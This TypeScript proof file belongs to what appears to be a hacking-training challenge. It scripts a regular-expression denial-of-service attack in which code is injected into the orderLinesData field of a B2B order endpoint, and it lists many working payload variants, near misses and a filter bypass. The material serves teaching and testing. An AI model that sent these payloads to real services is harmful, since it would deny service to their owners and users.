import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const MANY = 'a'.repeat(29)

const send = (attacker: Attacker, orderLinesData: string) =>
  attacker.post('/b2b/v2/orders', { cid: 'grocer-7', orderLinesData })

/** Sends order lines as a new customer. */
const order =
  (orderLinesData: string): Attack =>
  async (attacker) => {
    await attacker.becomeCustomer()
    await send(attacker, orderLinesData)
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    await attacker.get('/api-docs')
    await attacker.becomeCustomer()
    // The sandbox stops endless loops at once. A slow regular expression runs until the time limit.
    await send(attacker, 'while(true);')
    await send(attacker, `/((a+)+)b/.test('${'a'.repeat(12)}')`)
    await send(attacker, `/((a+)+)b/.test('${MANY}')`)
  },
  spellings: {
    'with a longer text': order("/((a+)+)b/.test('a'.repeat(60))"),
    'by two that can share': order("/(x+x+)+y/.test('x'.repeat(40))"),
    'by a choice with two ways': order("/^(a|aa)+$/.test('a'.repeat(60) + '!')"),
    'as a check of class names does it': order("/^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(60))"),
    'as a method of the text': order(`'${MANY}'.match(/((a+)+)b/)`),
    'without slashes': order(`'${MANY}'.match('((a+)+)b')`),
    'by a constructor': order(`new RegExp('((a+)+)b').exec('${MANY}')`),
    'while replacing': order(`'${MANY}'.replace(/((a+)+)b/g, '')`),
    'while splitting': order(`'${MANY}'.split(/((a+)+)b/)`),
    'in a list that looks right': order(`[{ productId: 8, quantity: /((a+)+)b/.test('${MANY}') ? 1 : 2 }]`),
    'by several that are slow together': order("for (const n of [18, 19, 20, 21]) /((a+)+)b/.test('a'.repeat(n))"),
  },
  nearMisses: {
    'an order as partners write it': order(JSON.stringify([{ productId: 8, quantity: 500 }])),
    'a pattern that is quick': order("/^[A-Z]{2}\\d+$/.test('JS0815')"),
    'the slow pattern on a short text': order("/((a+)+)b/.test('aaaaaaaaaaaa')"),
    'the slow pattern on a text that fits': order(`/((a+)+)b/.test('${MANY}b')`),
    'the slow pattern in quotation marks': order(`"/((a+)+)b/.test('${MANY}')"`),
    'a loop without end, which is noticed': order('(function dos() { while(true); })()'),
    'quick patterns without end': order("while (/a/.test('a'));"),
    'a loop in what a pattern is to read': order('/a/.test({ toString() { for (;;); } })'),
    'calls within calls': order('(function f() { f() })()'),
    'an error that says so': order('throw new Error("deadline")'),
    'a pattern that is none': order('/((a+)+b/.test("aaaa")'),
    'as the name of the customer': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/b2b/v2/orders', { cid: `/((a+)+)b/.test('${MANY}')` })
    },
    'without a token': (attacker) => send(attacker, `/((a+)+)b/.test('${MANY}')`),
  },
  bypasses: {
    'refuse-patterns': order(`'${MANY}'.match('((a+)+)b')`),
  },
})
